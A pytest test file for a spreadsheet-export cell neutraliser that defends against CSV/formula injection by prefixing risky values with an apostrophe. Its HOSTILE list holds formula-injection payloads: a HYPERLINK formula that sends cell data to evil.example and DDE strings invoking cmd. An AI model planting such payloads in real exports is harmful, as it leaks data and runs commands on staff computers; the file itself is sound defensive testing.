"""Whatever a visitor typed reaches staff's spreadsheets as text: the shared cell neutraliser of every export."""

import io

import openpyxl
import pytest

from centers.common.spreadsheets import append_text_row, csv_text, neutral_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&E4&E5&E6,"Подробнее")',
    "+7 900 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(value):
    assert neutral_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Иванова Анна", "a=b", "", 5, -3, None, "Школа № 5 — 1+1"])
def test_other_values_stay_as_they_are(value):
    assert neutral_cell(value) == value


def test_the_csv_and_the_xlsx_carry_formula_text_as_text():
    rows = [["Имя", "Телефон"], [HOSTILE[0], HOSTILE[1]], ["Число", 7]]
    text = csv_text(rows)
    assert text.startswith("\ufeffИмя;Телефон")
    assert "\n'=HYPERLINK(" in text.replace('"', "")
    workbook = openpyxl.Workbook()
    for row in rows:
        append_text_row(workbook.active, row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'" + HOSTILE[0]
    assert sheet["B2"].value == "'+7 900 000-00-00"
    assert sheet["B3"].data_type == "n" and sheet["B3"].value == 7
